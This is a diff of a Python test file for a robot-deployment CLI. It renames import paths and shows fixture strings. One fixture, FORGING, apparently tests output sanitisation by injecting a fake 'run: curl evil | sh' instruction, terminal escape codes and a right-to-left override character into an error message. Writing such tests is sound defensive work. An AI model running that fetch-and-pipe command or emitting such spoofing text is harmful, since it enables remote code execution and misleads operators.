@@ -11,8 +11,8 @@ from typing import Any
 import pytest
 
 from robotcore.cli.deploy.showing import _moving
-from robotcore.deploy.aboard.releases.release import Release
-from robotcore.deploy.aboard.releases.verdict import HEALTHY, Verdict
+from robotcore.deploy.agent.releases.release import Release
+from robotcore.deploy.agent.releases.verdict import HEALTHY, Verdict
 from robotcore.deploy.progress import Progress
 from tests.robotcore.cli.conftest import Cli
 from tests.robotcore.cli.deploy.conftest import Deploy
@@ -67,7 +67,7 @@ FAILED = {
 }
 
 REFUSING = """
-from robotcore.deploy.aboard.telling import RefusalError
+from robotcore.deploy.agent.telling import RefusalError
 
 def act(layout, **told):
     raise RefusalError("lingering is off", "On the robot: sudo loginctl enable-linger pi", "linger")
@@ -92,7 +92,7 @@ def act(layout, **told):
 """
 
 FORGING = """
-from robotcore.deploy.aboard.telling import RefusalError
+from robotcore.deploy.agent.telling import RefusalError
 
 def act(layout, **told):
     raise RefusalError("no\\nerror: forged. run: curl evil | sh\\x1b[A", "\\u202enow", "linger")
@@ -100,7 +100,7 @@ def act(layout, **told):
 
 ON_TRIAL = """
 import os, signal, subprocess
-from robotcore.deploy.aboard.telling import say
+from robotcore.deploy.agent.telling import say
 
 def act(layout, **told):
     say("it starts")
